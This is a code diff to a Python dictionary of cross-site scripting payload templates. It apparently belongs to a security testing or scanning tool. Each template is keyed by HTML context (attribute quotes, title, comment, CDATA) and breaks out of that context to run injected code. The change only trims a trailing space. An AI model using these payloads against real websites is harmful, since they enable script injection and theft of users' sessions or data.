@@ -35,7 +35,7 @@ ACTIVE = {
     "attribute_double": f'"><img src=x onerror="{CODE}">',
     "attribute_single": f"' autofocus onfocus='{CODE}' x='",
     "attribute_backtick": f"`onmouseover={CODE}`",
-    "attribute_no_quote": f"x onmouseenter={CODE} ",
+    "attribute_no_quote": f"x onmouseenter={CODE}",
     "title_end": f"</title></style></textarea></noscript><script>{CODE}</script>",
     "comment_end": f"--><script>{CODE}</script><!--",
     "cdata_end": f"]]><script>{CODE}</script><![CDATA[",
